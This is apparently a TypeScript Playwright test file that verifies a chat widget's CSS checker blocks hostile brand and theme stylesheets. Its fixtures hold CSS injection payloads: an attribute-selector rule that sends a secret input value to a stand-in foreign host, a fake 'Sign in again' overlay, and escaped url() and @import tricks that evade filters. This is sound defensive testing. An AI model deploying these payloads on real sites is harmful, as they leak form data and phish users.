import type { RequestListener } from 'node:http';
import fc from 'fast-check';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { CssChecker } from '../../src/adapters/css/css-checker.js';
import { createNodeHandler } from '../../src/composition/node.js';
import { createToolkit } from '../../src/composition/toolkit/toolkit.js';
import { listeningSite } from '../site/frameworks/listening-site.js';
import { findChromium, launchChromium } from '../support/chromium.js';
import { cssOf } from '../support/css-pieces.js';

/** A local server that records the requested paths. */
async function host(answer: RequestListener) {
  const hits: string[] = [];
  const { url, close } = await listeningSite((request, response) => {
    hits.push(request.url ?? '');
    answer(request, response);
  });
  return { origin: url, hits, close };
}

type Host = Awaited<ReturnType<typeof host>>;

const PAGE = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Shop</title><style>
  body{font:16px sans-serif;margin:2rem} main{max-width:40rem} #accent{background:var(--agent-accent);color:#fff;padding:1rem}
</style></head><body><main><h1>Pay your order</h1><p><input id="token" value="secret-17"></p><p id="accent">Ask us</p><div id="widget"></div></main></body></html>`;
const MARKUP =
  '<div class="notes"><form><label>New note <input></label><button>Add</button></form><b class="a">a</b><i class="b">b</i></div>';

const hostileBrand = (foreign: string): string => `
@import "${foreign}/brand-import.css";
:root { --agent-accent: #0a7d4f; --agent-photo: url(${foreign}/brand-property); }
input[value^="secret-1"] { background: url(${foreign}/brand-attribute?secret-1) }
body::before { content: "Your session ended. Sign in again"; position: fixed; inset: 0; z-index: 9999; background: #b00; color: #fff; font-size: 3rem }
@font-face { font-family: x; src: url(${foreign}/brand-font) } h1 { font-family: x }
#accent { background: var(--agent-photo) }`;

const hostileTheme = (foreign: string): string => {
  const bare = foreign.slice('http:'.length);
  return `
@import url(${foreign}/theme-import.css);
@\\69mport "${foreign}/theme-import-2.css";
:host { --late: "${foreign}/late"; --whole: url(${foreign}/whole); background: url(${foreign}/host) }
.a { background: u\\72l(${bare}/escaped) } .b { background: \\75 rl("${foreign}/escaped-2") }
.a::before { content: url("${foreign}/content") } .b::before { content: image-set("${foreign}/set" 1x) }
.a::after { content: image-set(var(--late) 1x) } .b::after { content: var(--whole) }
button { cursor: url(${foreign}/cursor), auto; border-image: url(${foreign}/border) 1; mask-image: url(${foreign}/mask) }
label { list-style: url(${foreign}/list); display: list-item; filter: url(${foreign}/filter.svg#f) }
form { background: -webkit-image-set(url(${foreign}/old-set) 1x), cross-fade(url(${foreign}/fade), url(${foreign}/fade-2), 50%) }
.notes { background: url(/own.png); color: rgb(1, 2, 3) }`;
};

const chromiumPath = findChromium();

describe.skipIf(chromiumPath === undefined)('a page with a hostile platform', { timeout: 60_000 }, () => {
  let browser: Browser;
  let foreign: Host;
  let platform: Host;
  let site: Host;
  let brandCss = '';
  let themeCss = '';

  beforeAll(async () => {
    browser = await launchChromium(chromiumPath ?? '');
    platform = await host((request, response) => {
      const isCard = request.url?.includes('.well-known') ?? false;
      response.setHeader('content-type', isCard ? 'application/json' : 'text/css');
      const card = { name: 'Agent', url: `${platform.origin}/a2a`, capabilities: {} };
      response.end(isCard ? JSON.stringify(card) : request.url === '/brand.css' ? brandCss : themeCss);
    });
    const handler = (trustBrandCss: boolean): RequestListener => {
      const { origin } = platform;
      const config = {
        a2aUrl: `${origin}/a2a`,
        serviceApiUrl: origin,
        serviceApiKey: 'site-key',
        telemetry: 'silent',
      } as const;
      return createNodeHandler({ toolkit: createToolkit({ ...config, ...(trustBrandCss && { trustBrandCss }) }) });
    };
    let routes = handler(false);
    site = await host((request, response) => {
      const path = request.url ?? '';
      if (path === '/new') routes = handler(false);
      if (path === '/trusting') routes = handler(true);
      if (path.startsWith('/api/')) routes(request, response);
      else if (path === '/raw-theme.css') response.setHeader('content-type', 'text/css').end(themeCss);
      else response.setHeader('content-type', 'text/html').end(path.endsWith('.png') ? '' : PAGE);
    });
  });
  afterAll(async () => {
    await browser.close();
    for (const one of [platform, site]) await one.close();
  });
  // A request of the page before may arrive late.
  beforeEach(async () => {
    foreign = await host((_request, response) => response.end());
    site.hits.length = 0;
    return foreign.close;
  });

  /** A page that applies brand and theme like the chat components. */
  async function wearing(entry: '/new' | '/trusting', theme: string): Promise<Page> {
    const page = await browser.newPage({ viewport: { width: 800, height: 500 } });
    await page.goto(site.origin + entry);
    await page.evaluate(
      async ([markup = '', address = '']) => {
        const { brandCss: css } = (await (await fetch('/api/a2a/config')).json()) as { brandCss: string };
        const sheet = new CSSStyleSheet();
        sheet.replaceSync(css);
        document.adoptedStyleSheets = [sheet];
        const root = document.querySelector('#widget')?.attachShadow({ mode: 'open' });
        if (!root) return;
        root.innerHTML = markup;
        const link = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: address });
        await new Promise((resolve) => {
          link.onload = link.onerror = resolve;
          root.prepend(link);
        });
        await new Promise(requestAnimationFrame);
      },
      [MARKUP, theme],
    );
    // Forced, as a hostile brand may cover it.
    await page.locator('button').hover({ force: true });
    await page.waitForLoadState('networkidle');
    return page;
  }

  const overlay = (page: Page): Promise<string> =>
    page.evaluate(() => getComputedStyle(document.body, '::before').content);

  it('does not show an overlay or load files from a brand, unless trustBrandCss is set', async () => {
    brandCss = hostileBrand(foreign.origin);
    themeCss = '';
    const checked = await wearing('/new', '/api/service-surfaces/notes/theme.css');
    expect([await overlay(checked), foreign.hits]).toEqual(['none', []]);
    expect(await checked.locator('#accent').evaluate((node) => getComputedStyle(node).backgroundColor)).toBe(
      'rgb(10, 125, 79)',
    );
    await checked.close();

    const trusting = await wearing('/trusting', '/api/service-surfaces/notes/theme.css');
    expect(await overlay(trusting)).toContain('Sign in again');
    expect(foreign.hits).toContain('/brand-attribute?secret-1');
    await trusting.close();
  });

  it('loads the images and fonts of a theme from its own origin only', async () => {
    brandCss = '';
    themeCss = hostileTheme(foreign.origin);
    const checked = await wearing('/new', '/api/service-surfaces/notes/theme.css');
    expect(foreign.hits).toEqual([]);
    expect(site.hits).toContain('/own.png');
    expect(await checked.locator('.notes').evaluate((node) => getComputedStyle(node).color)).toBe('rgb(1, 2, 3)');
    await checked.close();

    const raw = await wearing('/new', '/raw-theme.css');
    expect(foreign.hits.length).toBeGreaterThan(8);
    await raw.close();
  });

  it('parses random checked brands as custom properties and prefers-* queries only, and does not load files for random checked themes', async () => {
    const checker = new CssChecker(new Set());
    const texts = fc.sample(cssOf(foreign.origin.slice('http://'.length)), 600);
    const brands = await Promise.all(texts.map(async (text) => (await checker.brand(`:root{${text}`)).css));
    const themes = await Promise.all(texts.map(async (text) => (await checker.theme(text))?.css ?? ''));
    const page = await browser.newPage();
    await page.goto(`${site.origin}/new`);
    const odd = await page.evaluate((sheets) => {
      const isOdd = (rule: CSSRule): boolean => {
        if (rule instanceof CSSMediaRule)
          return !/^[^<>=]*prefers-/.test(rule.conditionText) || [...rule.cssRules].some(isOdd);
        const { style, cssRules } = rule as CSSStyleRule;
        // Declarations after a nested rule form a rule without a selector.
        const selectorText = rule instanceof CSSStyleRule ? rule.selectorText : ':root';
        const isRoot = selectorText
          .split(',')
          .every((one) => /^(?::root|html|:where\(:root\)|\.dark)+$/.test(one.trim()));
        const names = Array.from(style, String);
        const isPlain = names.every(
          (name) => name.startsWith('--') && !/url\(|image-set|src\(|attr\(/i.test(style.getPropertyValue(name)),
        );
        return !isRoot || !isPlain || (rule instanceof CSSStyleRule && [...cssRules].some(isOdd));
      };
      return sheets.filter((text) => {
        const sheet = new CSSStyleSheet();
        sheet.replaceSync(text);
        return [...sheet.cssRules].some(isOdd);
      });
    }, brands);
    expect(odd).toEqual([]);
    await page.evaluate(
      ([sheets = [], [markup = ''] = []]) => {
        for (const text of sheets) {
          const root = document.body.appendChild(document.createElement('div')).attachShadow({ mode: 'open' });
          root.innerHTML = markup;
          const sheet = new CSSStyleSheet();
          sheet.replaceSync(text);
          root.adoptedStyleSheets = [sheet];
        }
        return new Promise(requestAnimationFrame);
      },
      [themes, [`<a>a</a><b>b</b>${MARKUP}`]],
    );
    await page.waitForLoadState('networkidle');
    expect(foreign.hits).toEqual([]);
    await page.close();
  });
});
